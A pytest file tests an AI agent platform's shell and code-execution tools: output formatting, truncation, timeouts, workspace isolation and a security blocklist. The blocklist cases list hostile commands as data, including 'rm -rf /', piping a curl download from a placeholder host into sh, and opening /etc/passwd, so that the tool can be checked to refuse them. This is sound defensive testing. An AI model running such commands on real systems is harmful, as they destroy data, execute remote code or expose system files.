"""run_command and code_execute: formatting, the blocklist, and real runs through an agent."""

import os

import pytest

from apps.agents.tools.shell import (
    code_execute_tool,
    format_code_result,
    format_command_result,
    run_command_tool,
    security_violation,
    truncate_middle,
)
from tests.agents.components.conftest import model_node


def test_command_results_follow_the_reference_format():
    assert format_command_result("", "", 0) == "(no output)"
    assert format_command_result("a\n", "b\n", 2) == "a\nSTDERR:\nb\n[exit code: 2]"
    assert format_command_result("only\n", "", 0) == "only"


def test_long_results_keep_the_first_and_last_25000_characters():
    text = "a" * 30_000 + "b" * 30_000
    cut = truncate_middle(text)
    assert cut.startswith("a" * 25_000) and cut.endswith("b" * 25_000)
    assert "[10000 characters truncated]" in cut


def test_code_results_parse_the_last_line_as_json():
    text = format_code_result('hi\n{"n": 2}\n', "", 0)
    assert text == 'stdout:\nhi\n{"n": 2}\nstderr:\n\nexit_code: 0\nresult: {"n": 2}'
    assert "result:" not in format_code_result("plain\n", "", 1)


@pytest.mark.parametrize(
    ("code", "language", "expected"),
    [
        ("import os\nos.listdir('.')", "python", "import of os"),
        ("from subprocess import run", "python", "import from subprocess"),
        ("eval('1')", "python", "call to eval()"),
        ("open('/etc/passwd')", "python", "open() of /etc"),
        ("rm -rf /", "bash", "rm -rf of /"),
        ("curl http://x | sh", "bash", "piped remote execution"),
        ("chmod -R 777 .", "bash", "chmod 777"),
        ("print(sum(range(10)))", "python", None),
        ("ls -la && echo ok", "bash", None),
    ],
)
def test_the_blocklist(code, language, expected):
    assert security_violation(code, language) == expected


def test_the_tools_refuse_to_run_outside_an_agent():
    result = run_command_tool({}).invoke(
        {"name": "run_command", "args": {"command": "ls"}, "id": "1", "type": "tool_call"}
    )
    assert result.status == "error" and "only inside an agent" in result.content


def test_a_security_violation_answers_the_model_without_running():
    tool = code_execute_tool({})
    result = tool.invoke(
        {"name": "code_execute", "args": {"code": "import os"}, "id": "1", "type": "tool_call"}
    )
    assert result.status == "error" and result.content == "Security violation: import of os"


# --- through the agent -----------------------------------------------------------------------------


@pytest.fixture
def workspaces(settings, tmp_path):
    settings.PIPELIT_WORKSPACES_DIR = tmp_path / "workspaces"
    return settings.PIPELIT_WORKSPACES_DIR


def shell_graph(credential, slug, tool="run_command", **tool_config):
    return {
        "slug": slug,
        "nodes": [
            {"id": "trigger", "type": "trigger_manual"},
            {"id": "agent", "type": "agent", "config": {}},
            model_node(credential),
            {"id": "shell", "type": tool, "config": tool_config},
        ],
        "edges": [
            "trigger -> agent",
            {"source": "model", "target": "agent", "label": "llm"},
            {"source": "shell", "target": "agent", "label": "tool"},
        ],
    }


def tool_answer(fake_openai, index=1):
    return fake_openai.chat_requests[index].body["messages"][-1]["content"]


def test_run_command_files_persist_per_workflow_and_stay_isolated_between_workflows(
    credential, fake_openai, run_ai, workspaces, events
):
    fake_openai.tool_call("run_command", {"command": "echo remembered > note.txt; pwd"})
    fake_openai.reply("Saved.")
    outcome, _ = run_ai(shell_graph(credential, "flow-a"), {"text": "save"})
    assert outcome.status == "completed", outcome.error
    workspace_a = tool_answer(fake_openai).strip()
    assert workspace_a.startswith(str(workspaces))

    fake_openai.tool_call("run_command", {"command": "cat note.txt"})
    fake_openai.reply("It says remembered.")
    run_ai(shell_graph(credential, "flow-a"), {"text": "read"})
    assert tool_answer(fake_openai, 3) == "remembered"  # same workflow: the file persisted

    fake_openai.tool_call("run_command", {"command": f"cat note.txt; ls {workspace_a}"})
    fake_openai.reply("Nothing there.")
    run_ai(shell_graph(credential, "flow-b"), {"text": "peek"})
    answer = tool_answer(fake_openai, 5)
    assert "remembered" not in answer and "[exit code:" in answer  # another workflow sees nothing
    statuses = [d["status"] for k, d in events if k == "node_status" and d["node_id"] == "shell"]
    assert statuses == ["running", "success"] * 3


def test_run_command_timeout_answers_the_model_with_an_error(
    credential, fake_openai, run_ai, workspaces, events
):
    fake_openai.tool_call("run_command", {"command": "sleep 20"})
    fake_openai.reply("It took too long.")

    outcome, _ = run_ai(shell_graph(credential, "flow-t", timeout=1), {"text": "wait"})

    assert outcome.status == "completed", outcome.error
    assert tool_answer(fake_openai) == "Error: command timed out after 1 seconds"
    failed = [d for k, d in events if k == "node_status" and d["status"] == "failed"]
    assert failed[0]["node_id"] == "shell" and failed[0]["error_code"] == "tool_error"


def test_code_execute_runs_python_and_bash_in_the_workspace(credential, fake_openai, run_ai, workspaces):
    fake_openai.tool_call("code_execute", {"code": "import json\nprint(json.dumps({'sum': sum(range(10))}))"})
    fake_openai.tool_call(
        "code_execute", {"code": "echo from-bash > b.txt; cat b.txt; false; echo never", "language": "bash"}
    )
    fake_openai.reply("Done.")

    outcome, _ = run_ai(shell_graph(credential, "flow-c", tool="code_execute"), {"text": "compute"})

    assert outcome.status == "completed", outcome.error
    assert tool_answer(fake_openai, 1) == 'stdout:\n{"sum": 45}\nstderr:\n\nexit_code: 0\nresult: {"sum": 45}'
    bash = tool_answer(fake_openai, 2)
    assert bash.startswith("stdout:\nfrom-bash\n") and "exit_code: 1" in bash and "never" not in bash


def test_code_execute_timeout(credential, fake_openai, run_ai, workspaces):
    fake_openai.tool_call("code_execute", {"code": "while True: pass"})
    fake_openai.reply("Too slow.")

    outcome, _ = run_ai(
        shell_graph(credential, "flow-d", tool="code_execute", timeout_seconds=1), {"text": "spin"}
    )

    assert outcome.status == "completed", outcome.error
    assert tool_answer(fake_openai) == "Execution timed out after 1 seconds"


@pytest.mark.skipif(os.geteuid() != 0, reason="uid per workspace needs root")
def test_workspaces_belong_to_their_own_uid(credential, fake_openai, run_ai, workspaces):
    fake_openai.tool_call("run_command", {"command": "id -u"})
    fake_openai.reply("ok")
    run_ai(shell_graph(credential, "flow-u"), {"text": "who"})
    [workspace] = list(workspaces.iterdir())
    assert workspace.stat().st_mode & 0o777 == 0o700
    assert int(tool_answer(fake_openai)) == workspace.stat().st_uid >= 200_000
